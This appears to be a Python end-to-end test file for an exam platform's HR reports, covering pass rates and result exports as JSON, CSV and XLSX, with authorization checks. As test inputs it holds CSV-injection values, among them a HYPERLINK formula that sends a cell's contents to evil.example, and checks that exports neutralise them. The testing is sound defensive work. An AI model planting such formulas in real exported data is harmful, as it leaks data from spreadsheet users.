"""End-to-end tests of the HR reports and the item analysis (SPEC §6, §7, §8).

A population of several hundred staff over a three-level unit tree, four categories (one
without a paper), with disabled users, HR-only and admin-only accounts, staff outside the
exam's scope (including a unit whose name merely starts with a scope path), non-participants,
attempts in progress, retakes, ties, failing and passing attempts, is written straight into
the temporary database (L.connect: SQLite or PostgreSQL) before the server starts (argon2 for
each of them through `user add` would take minutes; their pw_hash is a real hash copied from
a user `user add` made). A few examinees then take the exam for real through the API, so
their attempts, drawn questions and answers come from the product. Every expected figure is computed here,
independently, from those raw inputs and compared with the JSON of the API and the CLI for
depths 1, 2, 3, the whole path and by category; with the results list; with the CSV (BOM,
CRLF, RFC 4180 round trip through Python's csv module, a name holding a comma, a quote and
a newline) and the XLSX (read back with openpyxl: same cells, numbers numeric, percent
format on rates, bold frozen header). Plus authorization, parameter validation, download
headers and the audit trail.
"""

import csv
import datetime
import io
import json
import os
import random
import re
import time
import unittest
import urllib.parse

import lawexam_e2e as L
from lawexam_e2e import error_code

try:
    import openpyxl
except ImportError:  # pragma: no cover - Debian's python3-openpyxl is a test dependency
    openpyxl = None

PW = L.DEFAULT_PASSWORD
FAST = ("--argon2-m", "1024", "--argon2-t", "1")
EXAM = "2026-annual"
MAKEUP = "2026-makeup"
PASS_PERCENT = 60
SEED = 20261201

TOPS = ["甲区", "乙区", "丙区", "甲区局"]  # 甲区局 starts with 甲区 but is not under it
BUREAUS = ["司法局", "教育局", "公安局"]
SECTIONS = ["办公室", "法制股", "执法一队"]
SCOPE = ["甲区", "乙区/司法局"]
CATEGORIES = [("leader", "领导干部"), ("enforcement", "行政执法人员"), ("general", "一般工作人员"),
              ("retired", "退休人员")]  # retired: no paper, never assigned
CAT_NAME = dict(CATEGORIES)
CAT_ORDER = [c for c, _ in CATEGORIES]
ODD_NAME = '王,"小"\n明'  # a comma, a quote and a newline
# Names a spreadsheet would run as a formula (OWASP "CSV injection"): the CSV must show them, not
# run them. EVIL_NAME starts with '-' and a digit, like a negative number, but is not one.
EVIL_NAME = '-1+HYPERLINK("https://evil.example/?"&B2,"点击")'
# (A leading CR is covered by tests/unit/formats/test_csv.c: the XLSX writer stores it as _x000D_.)
FORMULA_NAMES = {11: "=1+1", 12: "+1", 13: "@SUM(A1)", 14: "\t=1+1", 16: "-A1",
                 17: "-5", 18: "-0.5"}  # the last two are plain numbers: they stay bare
STATUS_ZH = {"not_started": "未参加", "in_progress": "进行中", "submitted": "已交卷"}
TITLE_ROWS = 4  # XLSX: exam title, code and scope, generated at, an empty row; then the header


def bank_json():
    qs = []
    for i in range(1, 15):
        qs.append({"id": "S%02d" % i, "type": "single", "stem": "第%d题：哪一项正确？" % i,
                   "options": ["选项甲%d" % i, "选项乙%d" % i, "选项丙%d" % i, "选项丁%d" % i],
                   "answer": "ABCD"[i % 4]})
    for i in range(1, 11):
        qs.append({"id": "J%02d" % i, "type": "judge", "stem": "第%d题：这句话对吗？" % i,
                   "answer": "T" if i % 3 else "F"})
    return {"format": "lawexam-bank/1",
            "bank": {"code": "e2e-law", "title": "报表测试题库", "subject": "constitution"},
            "questions": qs}


def exam_json(code, scope, papers, title):
    d = {"format": "lawexam-exam/1", "code": code, "title": title,
         "opens_at": "2026-01-01T08:00:00+08:00", "closes_at": "2099-12-20T18:00:00+08:00",
         "duration_minutes": 60, "pass_percent": PASS_PERCENT, "max_attempts": 3,
         "multiple_scoring": "all_or_nothing", "results": "immediate", "review": "after_close",
         "papers": papers}
    if scope:
        d["org_scope"] = scope
    return d


LEADER_PAPER = {"categories": ["leader"], "sections": [
    {"title": "单选", "bank": "e2e-law", "type": "single", "count": 5, "points": 4},
    {"title": "判断", "bank": "e2e-law", "type": "judge", "count": 5, "points": 2}]}
STAFF_PAPER = {"categories": ["enforcement", "general"], "sections": [
    {"title": "单选", "bank": "e2e-law", "type": "single", "count": 6, "points": 5},
    {"title": "判断", "bank": "e2e-law", "type": "judge", "count": 5, "points": 2}]}
MAX2 = {"leader": 60, "enforcement": 80, "general": 80}  # max score in half-points

# --- the model: figures computed here from the raw inputs -------------------------------------


def in_scope(org, scope):
    return not scope or any(org == s or org.startswith(s + "/") for s in scope)


def assigned_users(users, exam):
    return [u for u in users if not u["disabled"] and u["roles"] & 1 and u["category"] in exam["papers"]
            and in_scope(u["org"], exam["scope"])]


def person(u, attempts):
    mine = [a for a in attempts if a["user"] == u["login"]]
    sub = [a for a in mine if a["status"] == "submitted"]
    p = dict(u)
    if sub:
        best = sorted(sub, key=lambda a: (-a["score2"], a["submitted_at"], a["id"]))[0]
        p.update(status="submitted", score2=best["score2"], passed=best["passed"],
                 submitted_at=best["submitted_at"])
    else:
        p.update(status="in_progress" if mine else "not_started", score2=None, passed=None,
                 submitted_at=None)
    return p


def people(users, attempts, exam):
    ps = [person(u, [a for a in attempts if a["exam"] == exam["code"]]) for u in assigned_users(users, exam)]
    return sorted(ps, key=lambda p: (p["org"], p["login"]))


def csv_shown(text):
    """What the results CSV must hold for a person-typed cell: a leading apostrophe on anything
    starting with = + @ tab CR, or with '-' unless the whole cell is a plain number."""
    if text and (text[0] in "=+@\t\r" or (text[0] == "-" and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text))):
        return "'" + text
    return text


def permille(num, den):
    return None if den == 0 else (2000 * num + den) // (2 * den)


def fmt_rate(num, den):
    p = permille(num, den)
    return "" if p is None else "%d.%d%%" % (p // 10, p % 10)


def avg_centi(sum2, took):
    return None if took == 0 else (100 * sum2 + took) // (2 * took)


def fmt_score2(s2):
    return "%d%s" % (s2 // 2, ".5" if s2 % 2 else "")


def group_figures(ps):
    took = [p for p in ps if p["status"] == "submitted"]
    sum2 = sum(p["score2"] for p in took)
    passed = sum(1 for p in took if p["passed"])
    c = avg_centi(sum2, len(took))
    return {"assigned": len(ps), "took": len(took), "passed": passed, "sum2": sum2,
            "not_taken": len(ps) - len(took), "failed": len(took) - passed,
            "participation_rate": len(took) / len(ps) if ps else None,
            "pass_rate": passed / len(took) if took else None,
            "avg_score": None if c is None else c / 100, "avg_centi": c}


def expected_pass_rates(ps, by, depth=None):
    groups = {}
    for p in ps:
        if by == "category":
            key = p["category"]
        else:
            key = "/".join(p["org"].split("/")[:depth]) if depth else p["org"]
        groups.setdefault(key, []).append(p)
    if by == "category":
        keys = sorted(groups, key=CAT_ORDER.index)
    else:
        keys = sorted(groups)  # code point order = UTF-8 byte order
    rows = []
    for k in keys:
        r = {"group": k}
        if by == "category":
            r["group_name"] = CAT_NAME[k]
        r.update(group_figures(groups[k]))
        rows.append(r)
    return rows, group_figures(ps)


# --- the test ------------------------------------------------------------------------------------


class ReportsTest(L.TestCase):
    @classmethod
    def setUpClass(cls):
        try:
            cls.build()
        except BaseException:
            cls.tearDownClass()  # unittest skips it when setUpClass fails: stop the server anyway
            raise

    @classmethod
    def build(cls):
        cls.srv = srv = cls.start_server(*FAST, start=False)
        cls.rnd = random.Random(SEED)
        cls.users = []    # the model: login, name, org, category, roles, disabled
        cls.attempts = []  # the model: exam, user, id, status, score2, passed, submitted_at

        def add(login, org, category, roles, name=None):
            srv.add_user(login, name=name or ("用户" + login), org=org, category=category,
                         roles=",".join(r for bit, r in ((1, "examinee"), (2, "admin"), (4, "hr")) if roles & bit),
                         password=PW)
            cls.users.append({"login": login, "name": name or ("用户" + login), "org": org,
                              "category": category, "roles": roles, "disabled": 0})

        cls.check(srv.admin("category", "add", "retired", "退休人员"))
        add("hr1", "乙区/司法局/办公室", "general", 4)           # HR officer, not an examinee
        add("adm1", "丙区", "general", 2)                         # administrator
        add("exnot", "甲区/教育局", "general", 1)                  # examinee: 403 on reports
        cls.takers = ["ex1", "ex2", "ex3", "ex4", "ex5"]           # take the exam through the API
        for i, login in enumerate(cls.takers):
            add(login, "甲区/司法局/法制股", "leader" if i % 2 else "general", 1)
        add("evil1", "甲区/司法局/办公室", "general", 1, name=EVIL_NAME)  # through `user add`

        bank = os.path.join(srv.dir, "bank.json")
        with open(bank, "w", encoding="utf-8") as f:
            json.dump(bank_json(), f, ensure_ascii=False)
        cls.check(srv.admin("bank", "import", bank))
        cls.exams = {}
        for code, scope, papers, title in ((EXAM, SCOPE, [LEADER_PAPER, STAFF_PAPER], "2026年度学法考法"),
                                          (MAKEUP, None, [STAFF_PAPER], "2026年度补考")):
            path = os.path.join(srv.dir, code + ".json")
            with open(path, "w", encoding="utf-8") as f:
                json.dump(exam_json(code, scope, papers, title), f, ensure_ascii=False)
            cls.check(srv.admin("exam", "create", path))
            cats = [c for p in papers for c in p["categories"]]
            cls.exams[code] = {"code": code, "scope": scope or [], "papers": cats, "title": title}

        cls.populate()
        srv.start()
        cls.take_exams()
        cls.hr = srv.client()
        cls.hr.login("hr1", PW)
        cls.adm = srv.client()
        cls.adm.login("adm1", PW)

    @staticmethod
    def check(res):
        rc, out, err = res
        if rc != 0:
            raise AssertionError("lawexam-admin failed (%d): %s%s" % (rc, out, err))
        return out

    # --- the population, straight into the database ------------------------------------------

    @classmethod
    def populate(cls):
        rnd = cls.rnd
        con = L.connect(cls.srv)
        cur = con.cursor()
        pw_hash = cur.execute("SELECT pw_hash FROM users WHERE login = 'hr1'").fetchone()[0]
        exam_id = dict(cur.execute("SELECT code, id FROM exams").fetchall())

        def org_id(path):
            parent, oid = None, None
            parts = path.split("/")
            for d in range(1, len(parts) + 1):
                p = "/".join(parts[:d])
                row = cur.execute("SELECT id FROM org_units WHERE path = ?", (p,)).fetchone()
                if row:
                    oid = row[0]
                else:
                    cur.execute("INSERT INTO org_units(path, parent_id, depth) VALUES(?, ?, ?)", (p, parent, d))
                    oid = cur.lastrowid
                parent = oid
            return oid

        units = []
        for t in TOPS:
            units.append(t)
            for b in BUREAUS:
                units.append(t + "/" + b)
                for s in SECTIONS:
                    units.append(t + "/" + b + "/" + s)
        scoped = [u for u in units if in_scope(u, SCOPE)]
        unscoped = [u for u in units if not in_scope(u, SCOPE)]
        now = int(time.time())
        base = now - 5 * 86400
        next_id = [cur.execute("SELECT coalesce(max(id), 0) FROM attempts").fetchone()[0]]

        def attempt(code, login, uid, no, status, score2=None, at=None):
            next_id[0] += 1
            cat = next(u["category"] for u in cls.users if u["login"] == login)
            max2 = MAX2.get(cat, 80)
            passed = None if score2 is None else int(score2 * 100 >= PASS_PERCENT * max2)
            cur.execute("INSERT INTO attempts(id, exam_id, user_id, attempt_no, seed, status, started_at, deadline,"
                        " submitted_at, score2, max_score2, passed) VALUES(?,?,?,?,?,?,?,?,?,?,?,?)",
                        (next_id[0], exam_id[code], uid, no, b"\0" * 32, status,
                         (at or now) - 1800, now + 86400 if status == "in_progress" else (at or now) + 1800,
                         at, score2, max2, passed))
            cls.attempts.append({"exam": code, "user": login, "id": next_id[0], "status": status,
                                 "score2": score2, "passed": passed, "submitted_at": at})

        n = 420
        for i in range(n):
            login = "S%04d" % i
            org = rnd.choice(scoped) if rnd.random() < 0.78 else rnd.choice(unscoped)
            r = rnd.random()
            category = "leader" if r < 0.2 else "enforcement" if r < 0.5 else "general" if r < 0.95 else "retired"
            r = rnd.random()
            roles = 1 if r < 0.9 else 5 if r < 0.94 else 4 if r < 0.97 else 2
            disabled = 1 if rnd.random() < 0.03 else 0
            name = ODD_NAME if i == 7 else FORMULA_NAMES.get(i, "职工%04d" % i)
            if i == 7 or i in FORMULA_NAMES:
                org, category, roles, disabled = "甲区/司法局/办公室", "general", 1, 0
            cur.execute("INSERT INTO users(login, name, org_id, category, roles, pw_hash, must_change_password,"
                        " disabled, created_at, updated_at) VALUES(?,?,?,?,?,?,0,?,?,?)",
                        (login, name, org_id(org), category, roles, pw_hash, disabled, now, now))
            uid = cur.lastrowid
            cls.users.append({"login": login, "name": name, "org": org, "category": category, "roles": roles,
                              "disabled": disabled})
            max2 = MAX2.get(category, 80)
            for code in (EXAM, MAKEUP):
                r = rnd.random()
                if code == MAKEUP and r < 0.6:
                    continue
                if r < 0.15:
                    continue  # never started
                if r < 0.23:
                    attempt(code, login, uid, 1, "in_progress")
                    continue
                tries = 1 if r < 0.73 else 2 if r < 0.93 else 3
                t = base + rnd.randrange(0, 86400)
                first = None
                for k in range(tries):
                    if k == tries - 1 and tries == 3 and rnd.random() < 0.5:
                        attempt(code, login, uid, k + 1, "in_progress")  # a retake still open
                        break
                    s2 = rnd.randrange(0, max2 + 1)
                    if k == 1 and rnd.random() < 0.3:
                        s2 = first  # a tie: the earlier attempt is the best
                    first = s2 if first is None else first
                    attempt(code, login, uid, k + 1, "submitted", s2, t)
                    t += rnd.randrange(3600, 86400)
        # the special name always took part and passed
        uid7 = cur.execute("SELECT id FROM users WHERE login = 'S0007'").fetchone()[0]
        cur.execute("DELETE FROM attempts WHERE user_id = ?", (uid7,))
        cls.attempts = [a for a in cls.attempts if a["user"] != "S0007"]
        attempt(EXAM, "S0007", uid7, 1, "submitted", 77, base + 100)  # 38.5 of 40: passed
        con.commit()
        con.close()

    # --- real attempts through the API ------------------------------------------------------------

    @classmethod
    def take_exams(cls):
        for i, login in enumerate(cls.takers):
            c = cls.srv.client()
            c.login(login, PW)
            r = c.post("/api/v1/exams/%s/attempts" % EXAM, json={})
            if r.status not in (200, 201):
                raise AssertionError("start %s: %d %r" % (login, r.status, r.body))
            a = r.body
            answers = []
            for q in a["questions"]:
                if cls.rnd.random() < 0.15:
                    continue  # left unanswered
                keys = [o["key"] for o in q["options"]]
                answers.append({"position": q["position"], "response": cls.rnd.choice(keys), "seq": 1})
            r = c.put("/api/v1/attempts/%d/answers" % a["id"], json={"answers": answers})
            if r.status != 200:
                raise AssertionError("save %s: %d %r" % (login, r.status, r.body))
            if login != "ex5":  # ex5 leaves the attempt open
                r = c.post("/api/v1/attempts/%d/submit" % a["id"], json={})
                if r.status != 200:
                    raise AssertionError("submit %s: %d %r" % (login, r.status, r.body))
            c.close()
        con = L.connect(cls.srv)
        for row in con.execute("SELECT u.login, a.id, a.status, a.score2, a.passed, a.submitted_at FROM attempts a"
                               " JOIN users u ON u.id = a.user_id WHERE u.login LIKE 'ex%'"):
            cls.attempts.append({"exam": EXAM, "user": row[0], "id": row[1], "status": row[2], "score2": row[3],
                                 "passed": row[4], "submitted_at": row[5]})
        con.close()

    # --- helpers ---------------------------------------------------------------------------------

    def people(self, code=EXAM):
        return people(self.users, self.attempts, self.exams[code])

    def get(self, client, path, status=200):
        r = client.get(path)
        self.assertStatus(r, status)
        return r

    def assertFigures(self, got, want, what):
        for k in ("assigned", "took", "passed", "not_taken", "failed"):
            self.assertEqual(got[k], want[k], "%s: %s" % (what, k))
        for k in ("participation_rate", "pass_rate", "avg_score"):
            if want[k] is None:
                self.assertIsNone(got[k], "%s: %s" % (what, k))
            else:
                self.assertIsInstance(got[k], (int, float), "%s: %s" % (what, k))
                self.assertAlmostEqual(got[k], want[k], places=12, msg="%s: %s" % (what, k))

    # --- tests -----------------------------------------------------------------------------------

    def test_population_is_large_and_varied(self):
        ps = self.people()
        self.assertGreaterEqual(len(self.users), 300)
        self.assertGreaterEqual(len(ps), 250)
        statuses = {p["status"] for p in ps}
        self.assertEqual(statuses, {"not_started", "in_progress", "submitted"})
        took = [p for p in ps if p["status"] == "submitted"]
        self.assertTrue(any(p["passed"] for p in took) and any(not p["passed"] for p in took))
        retakes = {a["user"] for a in self.attempts if a["exam"] == EXAM and a["status"] == "submitted"}
        self.assertTrue(any(sum(1 for a in self.attempts if a["user"] == u and a["exam"] == EXAM) > 1
                            for u in retakes))

    def test_pass_rates_json_by_org_and_category(self):
        ps = self.people()
        cases = [("by=org", "org", None), ("by=org&depth=1", "org", 1), ("by=org&depth=2", "org", 2),
                 ("by=org&depth=3", "org", 3), ("", "org", None), ("by=category", "category", None)]
        for q, by, depth in cases:
            with self.subTest(query=q):
                r = self.get(self.hr, "/api/v1/reports/%s/pass-rates?%s" % (EXAM, q))
                self.assertTrue(r.headers["Content-Type"].startswith("application/json"))
                self.assertIsNone(r.headers.get("Content-Disposition"))
                body = r.body
                self.assertEqual(body["exam"], EXAM)
                self.assertEqual(body["by"], by)
                self.assertEqual(body["depth"], depth)
                rows, total = expected_pass_rates(ps, by, depth)
                self.assertEqual([g["group"] for g in body["rows"]], [g["group"] for g in rows])
                for got, want in zip(body["rows"], rows):
                    self.assertFigures(got, want, "%s %s" % (q, want["group"]))
                    if by == "category":
                        self.assertEqual(got["group_name"], want["group_name"])
                self.assertNotIn("group", body["total"])
                self.assertFigures(body["total"], total, q + " total")
        # depth 1 rolls everything up to the two top-level units in scope
        r = self.get(self.hr, "/api/v1/reports/%s/pass-rates?by=org&depth=1" % EXAM)
        self.assertEqual([g["group"] for g in r.body["rows"]], ["乙区", "甲区"])

    def test_pass_rates_match_the_monitor_and_the_cli(self):
        r = self.get(self.hr, "/api/v1/reports/%s/pass-rates?by=org&depth=2" % EXAM)
        out = self.check(self.srv.admin("report", "pass-rates", EXAM, "--by", "org", "--depth", "2"))
        self.assertEqual(json.loads(out), r.body)
        m = self.get(self.adm, "/api/v1/admin/exams/%s/monitor" % EXAM)
        counts = m.body.get("counts", m.body)
        self.assertEqual(counts.get("assigned"), r.body["total"]["assigned"], m.body)

    def test_other_exam_is_separate(self):
        ps = self.people(MAKEUP)
        r = self.get(self.adm, "/api/v1/reports/%s/pass-rates?by=category" % MAKEUP)
        rows, total = expected_pass_rates(ps, "category")
        self.assertEqual([g["group"] for g in r.body["rows"]], ["enforcement", "general"])
        self.assertFigures(r.body["total"], total, "makeup total")
        for got, want in zip(r.body["rows"], rows):
            self.assertFigures(got, want, "makeup " + want["group"])

    def test_results_json(self):
        ps = self.people()
        r = self.get(self.hr, "/api/v1/reports/%s/results" % EXAM)
        rows = r.body["rows"]
        self.assertEqual(r.body["exam"], EXAM)
        self.assertEqual([x["login"] for x in rows], [p["login"] for p in ps])
        for got, p in zip(rows, ps):
            what = p["login"]
            self.assertEqual(got["name"], p["name"], what)
            self.assertEqual(got["org"], p["org"], what)
            self.assertEqual(got["category"], p["category"], what)
            self.assertEqual(got["status"], p["status"], what)
            if p["status"] == "submitted":
                self.assertEqual(got["score"], p["score2"] / 2, what)
                self.assertIs(got["passed"], bool(p["passed"]), what)
                t = datetime.datetime.fromisoformat(got["submitted_at"])
                self.assertIsNotNone(t.tzinfo, what)
                self.assertEqual(int(t.timestamp()), p["submitted_at"], what)
            else:
                self.assertIsNone(got["score"], what)
                self.assertIsNone(got["passed"], what)
                self.assertIsNone(got["submitted_at"], what)
        odd = next(x for x in rows if x["login"] == "S0007")
        self.assertEqual((odd["name"], odd["score"], odd["passed"]), (ODD_NAME, 38.5, True))

    def download(self, path, ctype, fname):
        """fname: the ASCII fallback (filename=); filename* carries the Chinese name."""
        r = self.get(self.hr, path)
        self.assertEqual(r.headers["Content-Type"].split(";")[0].strip(), ctype)
        cd = r.headers["Content-Disposition"]
        self.assertTrue(cd.startswith('attachment; filename="%s"' % fname), cd)
        zh = {"pass-rates": "合格率统计", "results": "成绩明细", "items": "试题分析"}[fname.split("-" + EXAM)[0]]
        self.assertIn("filename*=UTF-8''" + urllib.parse.quote(fname.replace(fname.split("-" + EXAM)[0], zh, 1),
                                                                safe=""), cd)
        self.assertIsInstance(r.body, bytes)
        return r.body

    def read_csv(self, data):
        self.assertTrue(data.startswith(b"\xef\xbb\xbf"), data[:10])
        self.assertTrue(data.endswith(b"\r\n"))
        text = data[3:].decode("utf-8")
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        # every line break outside quoted fields is CRLF
        inside, prev = False, ""
        for ch in text:
            if ch == '"':
                inside = not inside
            elif ch == "\n" and not inside:
                self.assertEqual(prev, "\r")
            prev = ch
        return rows

    def assertTitleRows(self, rows, scope):
        """The XLSX title rows: the exam's title (bold), its code and the scope, the time."""
        title = self.exams[EXAM].get("title") or EXAM
        self.assertEqual(rows[0][0].value, title)
        self.assertTrue(rows[0][0].font.b)
        self.assertEqual(rows[1][0].value, "考试编号：%s；范围：%s" % (EXAM, scope))
        when = rows[2][0].value
        self.assertRegex(when, r"^生成时间：\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$")
        t = datetime.datetime.strptime(when[len("生成时间："):], "%Y-%m-%d %H:%M:%S")
        self.assertLess(abs((t - datetime.datetime.now()).total_seconds()), 120)
        self.assertTrue(all(c.value is None for c in rows[3]))

    def expected_pass_rate_table(self, by, depth):
        rows, total = expected_pass_rates(self.people(), by, depth)
        head = (["类别", "类别名称"] if by == "category" else ["单位"]) + \
            ["应考人数", "实考人数", "未参考", "合格人数", "不合格", "参考率", "合格率", "平均分", "免考人数"]
        out = [head]
        for g in rows + [dict(total, group="合计", group_name="")]:
            lead = [g["group"]] + ([g["group_name"]] if by == "category" else [])
            out.append((lead, g))
        return out

    def test_pass_rates_csv(self):
        for q, by, depth in (("by=org&depth=2", "org", 2), ("by=category", "category", None),
                             ("by=org", "org", None)):
            with self.subTest(query=q):
                data = self.download("/api/v1/reports/%s/pass-rates?%s&format=csv" % (EXAM, q), "text/csv",
                                     "pass-rates-%s.csv" % EXAM)
                got = self.read_csv(data)
                want = self.expected_pass_rate_table(by, depth)
                self.assertEqual(got[0], want[0])
                self.assertEqual(len(got), len(want))
                for row, (lead, g) in zip(got[1:], want[1:]):
                    c = g["avg_centi"]
                    self.assertEqual(row, lead + [str(g["assigned"]), str(g["took"]), str(g["not_taken"]),
                                                  str(g["passed"]), str(g["failed"]),
                                                  fmt_rate(g["took"], g["assigned"]), fmt_rate(g["passed"], g["took"]),
                                                  "" if c is None else "%d.%02d" % (c // 100, c % 100),
                                                  "0"])  # 免考人数: nobody is exempt here (test_actions)
                self.assertEqual(got[-1][0], "合计")

    def test_results_csv(self):
        data = self.download("/api/v1/reports/%s/results?format=csv" % EXAM, "text/csv", "results-%s.csv" % EXAM)
        got = self.read_csv(data)
        self.assertEqual(got[0], ["工号", "姓名", "单位", "类别", "状态", "成绩", "是否合格", "交卷时间"])
        ps = self.people()
        self.assertEqual(len(got), len(ps) + 1)
        for row, p in zip(got[1:], ps):
            sub = p["status"] == "submitted"
            self.assertEqual(row[:5], [p["login"], csv_shown(p["name"]), p["org"], CAT_NAME[p["category"]],
                                       STATUS_ZH[p["status"]]])
            self.assertEqual(row[5], fmt_score2(p["score2"]) if sub else "")
            self.assertEqual(row[6], ("是" if p["passed"] else "否") if sub else "")
            if sub:
                self.assertEqual(int(datetime.datetime.fromisoformat(row[7]).timestamp()), p["submitted_at"])
            else:
                self.assertEqual(row[7], "")
        self.assertIn(b'"' + ODD_NAME.replace('"', '""').encode() + b'"', data)
        # formula-like names are neutralised (and every one of them is in the report)
        names = {r[1] for r in got[1:]}
        for name in [EVIL_NAME] + list(FORMULA_NAMES.values()):
            self.assertIn(csv_shown(name), names, "name %r" % name)
        self.assertIn(b"\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"\xe7\x82\xb9\xe5\x87\xbb\"\")\"", data)
        self.assertIn(b"\r\nS0017,-5,", data)
        for ch in "=+@\t\r-":
            self.assertFalse(any(r[1].startswith(ch) for r in got[1:] if r[1] not in ("-5", "-0.5")),
                             "a name starting with %r is bare in the CSV" % ch)

    @L.requires(openpyxl is not None, "python3-openpyxl is not installed (Debian: python3-openpyxl)")
    def test_pass_rates_xlsx(self):
        data = self.download("/api/v1/reports/%s/pass-rates?by=category&format=xlsx" % EXAM,
                             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                             "pass-rates-%s.xlsx" % EXAM)
        ws = openpyxl.load_workbook(io.BytesIO(data)).active
        want = self.expected_pass_rate_table("category", None)
        rows = list(ws.iter_rows())
        self.assertTitleRows(rows, "全部单位；按人员类别统计")
        rows = rows[TITLE_ROWS:]
        self.assertEqual([c.value for c in rows[0]], want[0])
        self.assertTrue(all(c.font.b for c in rows[0]))
        self.assertEqual(ws.freeze_panes, "A%d" % (TITLE_ROWS + 2))
        self.assertEqual(len(rows), len(want))
        for row, (lead, g) in zip(rows[1:], want[1:]):
            vals = [c.value for c in row]
            self.assertEqual(vals[0], lead[0])
            self.assertEqual(vals[1] or "", lead[1])
            for i, k in ((2, "assigned"), (3, "took"), (4, "not_taken"), (5, "passed"), (6, "failed")):
                self.assertIsInstance(vals[i], (int, float))
                self.assertEqual(vals[i], g[k])
            for i, k in ((7, "participation_rate"), (8, "pass_rate")):
                if g[k] is None:
                    self.assertIsNone(vals[i])
                else:
                    self.assertIsInstance(vals[i], (int, float))
                    self.assertAlmostEqual(vals[i], g[k], places=12)
                    self.assertEqual(row[i].number_format, "0.0%")
            if g["avg_score"] is None:
                self.assertIsNone(vals[9])
            else:
                self.assertAlmostEqual(vals[9], g["avg_score"], places=9)
        for col in "ABCDEFGHIJ":
            self.assertGreaterEqual(ws.column_dimensions[col].width, 8)
        self.assertGreaterEqual(ws.column_dimensions["B"].width, 12)  # 行政执法人员 fits

    @L.requires(openpyxl is not None, "python3-openpyxl is not installed (Debian: python3-openpyxl)")
    def test_results_xlsx(self):
        data = self.download("/api/v1/reports/%s/results?format=xlsx" % EXAM,
                             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                             "results-%s.xlsx" % EXAM)
        ws = openpyxl.load_workbook(io.BytesIO(data)).active
        rows = list(ws.iter_rows(values_only=True))
        self.assertTitleRows(list(ws.iter_rows()), "全部单位")
        rows = rows[TITLE_ROWS:]
        ps = self.people()
        self.assertEqual(list(rows[0]), ["工号", "姓名", "单位", "类别", "状态", "成绩", "是否合格", "交卷时间"])
        self.assertEqual(len(rows), len(ps) + 1)
        for row, p in zip(rows[1:], ps):
            sub = p["status"] == "submitted"
            self.assertEqual(list(row[:5]), [p["login"], p["name"], p["org"], CAT_NAME[p["category"]],
                                             STATUS_ZH[p["status"]]])
            if sub:
                self.assertIsInstance(row[5], (int, float))
                self.assertEqual(row[5], p["score2"] / 2)
                self.assertEqual(row[6], "是" if p["passed"] else "否")
                self.assertEqual(row[7], datetime.datetime.fromtimestamp(p["submitted_at"]))
            else:
                self.assertEqual(row[5:], (None, None, None))

    def test_results_filters(self):
        """The HR page's filters as query parameters: JSON, CSV and XLSX hold the same rows."""
        ps = self.people()
        unit = "甲区/司法局"  # 甲区/司法局 and its sections; never 甲区局
        cases = [
            ("status=submitted", lambda p: p["status"] == "submitted", "全部单位；状态：已交卷"),
            ("status=not_started", lambda p: p["status"] == "not_started", "全部单位；状态：未参加"),
            ("status=in_progress", lambda p: p["status"] == "in_progress", "全部单位；状态：进行中"),
            ("passed=1", lambda p: p["status"] == "submitted" and p["passed"], "全部单位；是否合格：合格"),
            ("passed=0", lambda p: p["status"] == "submitted" and not p["passed"], "全部单位；是否合格：不合格"),
            ("org=" + urllib.parse.quote("甲区"), lambda p: p["org"] == "甲区" or p["org"].startswith("甲区/"),
             "单位：甲区（含下级单位）"),
            ("org=" + urllib.parse.quote(unit + "/") + "&status=submitted&passed=0",
             lambda p: (p["org"] + "/").startswith(unit + "/") and p["status"] == "submitted" and not p["passed"],
             "单位：%s（含下级单位）；状态：已交卷；是否合格：不合格" % unit),
        ]
        for q, keep, scope in cases:
            with self.subTest(query=q):
                want = [p["login"] for p in ps if keep(p)]
                self.assertGreater(len(want), 0)
                self.assertLess(len(want), len(ps))
                r = self.get(self.hr, "/api/v1/reports/%s/results?%s" % (EXAM, q))
                self.assertEqual([x["login"] for x in r.body["rows"]], want)
                data = self.download("/api/v1/reports/%s/results?%s&format=csv" % (EXAM, q), "text/csv",
                                     "results-%s.csv" % EXAM)
                self.assertEqual([row[0] for row in self.read_csv(data)[1:]], want)
                if openpyxl:
                    data = self.download("/api/v1/reports/%s/results?%s&format=xlsx" % (EXAM, q),
                                         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                                         "results-%s.xlsx" % EXAM)
                    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())
                    self.assertTitleRows(rows, scope)
                    self.assertEqual([row[0].value for row in rows[TITLE_ROWS + 1:]], want)
        # pass rates take the unit filter: the rows and the total are over that unit only
        r = self.get(self.hr, "/api/v1/reports/%s/pass-rates?by=org&org=%s" % (EXAM, urllib.parse.quote("甲区")))
        sub = [p for p in ps if p["org"] == "甲区" or p["org"].startswith("甲区/")]
        rows, total = expected_pass_rates(sub, "org")
        self.assertEqual([g["group"] for g in r.body["rows"]], [g["group"] for g in rows])
        self.assertFigures(r.body["total"], total, "org=甲区 total")
        # the CLI takes the same filters and writes the same bytes
        d = self.srv.dir
        self.check(self.srv.admin("report", "results", EXAM, "--org", unit, "--status", "submitted", "--passed", "0",
                                  "--format", "csv", "-o", os.path.join(d, "f.csv")))
        with open(os.path.join(d, "f.csv"), "rb") as f:
            cli = f.read()
        api = self.get(self.hr, "/api/v1/reports/%s/results?org=%s&status=submitted&passed=0&format=csv"
                       % (EXAM, urllib.parse.quote(unit))).body
        self.assertEqual(cli, api)
        # bad filters are a 400 with a Chinese message; the audit log names the filters
        for q in ("status=done", "passed=yes", "org=" + urllib.parse.quote("/甲区"), "org=" + "x" * 600):
            with self.subTest(bad=q):
                r = self.hr.get("/api/v1/reports/%s/results?%s" % (EXAM, q))
                self.assertStatus(r, 400, "bad_request")
                self.assertRegex(r.body["error"]["message"], r"[\u4e00-\u9fff]")
        out = self.check(self.srv.admin("audit"))
        self.assertIn("results %s format=csv org=%s status=submitted passed=0" % (EXAM, unit), out)

    def test_content_disposition_names(self):
        """Chinese names in filename* (RFC 5987), an ASCII fallback in filename=."""
        for path, ascii_name, zh in (
                ("pass-rates?by=org&format=csv", "pass-rates-%s.csv" % EXAM, "合格率统计-%s.csv" % EXAM),
                ("results?format=xlsx", "results-%s.xlsx" % EXAM, "成绩明细-%s.xlsx" % EXAM)):
            with self.subTest(path=path):
                cd = self.get(self.hr, "/api/v1/reports/%s/%s" % (EXAM, path)).headers["Content-Disposition"]
